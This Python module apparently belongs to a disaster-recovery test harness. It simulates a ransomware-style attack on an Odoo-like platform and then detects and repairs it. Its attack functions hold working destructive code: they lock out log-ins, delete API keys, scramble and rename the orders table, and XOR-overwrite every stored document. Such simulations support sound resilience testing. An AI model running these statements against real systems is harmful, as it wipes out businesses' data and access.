"""What an extortionist does once he has the application's database role and its host.

Rows first: every log-in is replaced, references of orders become unreadable and their table goes
by another name, in one transaction, which replicates. Then each document on disk is overwritten.
The platform goes on running; it just cannot be used any more. Platform-independent: a DSN and a
folder.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass
from pathlib import Path

import psycopg

from harness.platforms.capabilities import Filestore

_ALONE = (
    "LOCK TABLE sale_order IN ACCESS EXCLUSIVE MODE"  # first: nobody waits for us who we wait for
)
_LOCK_ORDERS = """
UPDATE sale_order SET client_order_ref = 'locked:' || md5(coalesce(client_order_ref, ''))"""
_RENAME = "ALTER TABLE sale_order RENAME TO sale_order_locked"
_LOCK_LOG_INS = """
UPDATE res_users SET password = 'locked:' || md5(coalesce(password, '')) WHERE id > 1"""
_DROP_KEYS = "DELETE FROM res_users_apikeys"
_IS_LOCKED = """
SELECT to_regclass('sale_order_locked') IS NOT NULL
    OR EXISTS (SELECT FROM res_users WHERE password LIKE 'locked:%')"""
_FIRST = """
SELECT xmin::text, to_char(
    pg_xact_commit_timestamp(xmin) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')
FROM res_users WHERE password LIKE 'locked:%' AND pg_xact_commit_timestamp(xmin) IS NOT NULL
ORDER BY pg_xact_commit_timestamp(xmin), xmin::text::bigint LIMIT 1"""
_DOCUMENTS = """
SELECT store_fname, xmin::text, to_char(
    pg_xact_commit_timestamp(xmin) AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.US"Z"')
FROM ir_attachment WHERE store_fname IS NOT NULL AND pg_xact_commit_timestamp(xmin) IS NOT NULL
ORDER BY pg_xact_commit_timestamp(xmin), xmin::text::bigint"""


@dataclass(frozen=True, slots=True)
class FirstHarm:
    """The attacker's first transaction: the database was good until just before it."""

    xid: int
    committed_utc: str


def is_worth_it(dsn: str, filestore: Path) -> bool:
    """Whether there is anything to lock: an order and a document at least."""
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        row = database.execute("SELECT EXISTS (SELECT FROM sale_order)").fetchone()
    return bool(row and row[0]) and any(file.is_file() for file in filestore.glob("??/*"))


def encrypt_rows(dsn: str) -> tuple[int, int]:
    """Orders and log-ins that are unreadable now: locked out and encrypted in one transaction."""
    with psycopg.connect(dsn, connect_timeout=5) as database:
        database.execute(_ALONE)
        log_ins = database.execute(_LOCK_LOG_INS).rowcount
        database.execute(_DROP_KEYS)
        orders = database.execute(_LOCK_ORDERS).rowcount
        database.execute(_RENAME)
    return orders, log_ins


def encrypt_documents(filestore: Path) -> int:
    """Every file overwritten in place, its length kept. Returns how many."""
    changed = 0
    for file in sorted(filestore.glob("??/*")):
        if file.is_file() and not file.name.startswith("."):
            file.write_bytes(bytes(b ^ 0x5A for b in file.read_bytes()) or b"\x5a")
            changed += 1
    return changed


def damaged_documents(filestore: Filestore) -> tuple[str, ...]:
    """The names of files on disk whose bytes do not have the digest that they are named by."""
    folder = filestore.folder()
    return tuple(
        f"{file.parent.name}/{file.name}"
        for file in sorted(folder.glob("??/*"))
        if file.is_file() and not file.name.startswith(".") and _sha1(file) != file.name
    )


def decrypt_documents(filestore: Filestore) -> int:
    """Damaged files written anew from object storage. Returns how many; the rest stays as it is."""
    mended = 0
    for name in damaged_documents(filestore):
        kept = filestore.mirrored(name)
        if kept is not None:
            (filestore.folder() / name).write_bytes(kept)
            mended += 1
    return mended


def _sha1(file: Path) -> str:
    return hashlib.sha1(file.read_bytes(), usedforsecurity=False).hexdigest()


def is_locked(dsn: str) -> bool:
    """Whether the extortionist's mark is in the database. Raises psycopg.Error."""
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        row = database.execute(_IS_LOCKED).fetchone()
    return bool(row and row[0])


def first_harm(dsn: str) -> FirstHarm | None:
    """By commit timestamps; None where nothing is damaged. Raises psycopg.Error."""
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        row = database.execute(_FIRST).fetchone()
    return FirstHarm(int(row[0]), str(row[1])) if row else None


def first_without_copy(dsn: str, copied: frozenset[str]) -> FirstHarm | None:
    """The earliest document of which object storage has no copy, by its row's transaction.

    Until just before it, database and object storage agree; from it on, a restored row would name
    a document that is gone. None where every document has its copy. Raises psycopg.Error.
    """
    with psycopg.connect(dsn, autocommit=True, connect_timeout=5) as database:
        for name, xid, committed_utc in database.execute(_DOCUMENTS):
            if name not in copied:
                return FirstHarm(int(xid), str(committed_utc))
    return None
